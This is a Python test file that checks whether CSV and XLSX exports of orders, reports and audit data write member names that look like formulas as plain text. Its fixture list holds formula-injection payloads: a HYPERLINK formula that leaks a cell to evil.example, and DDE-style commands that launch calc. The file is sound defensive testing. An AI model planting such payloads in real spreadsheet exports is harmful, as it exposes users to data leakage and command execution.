"""Exports cannot hurt: text that a spreadsheet would run as a formula is written as text
(a leading `'`, and a string cell in XLSX), in every CSV and XLSX export."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.test_payments import place, world  # noqa: F401  (fixture)

NASTY = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture
async def nasty_order(world):
    ids = []
    for i, name in enumerate(NASTY):
        r = await world.buyer.post("/api/branch/members", json={"member_no": f"X{i}", "name": name})
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
    r = await place(world.buyer, {"lines": [{"product_id": world.products["tea"], "quantity": 1}], "members": ids}, "nasty")
    assert r.status_code == 201, r.text
    order = r.json()
    r = await world.admin.post(f"/api/admin/orders/{order['id']}/confirm-transfer", json={"reference": order["payment"]["reference"]})
    assert r.status_code == 200, r.text
    return order


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "url",
    [
        "/api/orders/{order}/distribution",
        "/api/reports/distribution?union_id={branch}",
        "/api/audit/members?min_ratio=0&union_id={branch}",
    ],
)
async def test_names_that_look_like_formulas_are_written_as_text(world, nasty_order, url):
    url = url.format(order=nasty_order["id"], branch=world.branch)
    sep = "&" if "?" in url else "?"
    r = await world.admin.get(f"{url}{sep}format=csv")
    assert r.status_code == 200, r.text
    cells = _csv_cells(r.text)
    for name in NASTY:
        assert "'" + name in cells, (name, cells)
        assert name not in cells
    r = await world.admin.get(f"{url}{sep}format=xlsx")
    assert r.status_code == 200
    cells = _xlsx_cells(r.content)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for name in NASTY:
        assert "'" + name in texts
    # money stays a number in XLSX (negative amounts are not text)
    assert any(c.data_type == "n" and c.value for c in cells)
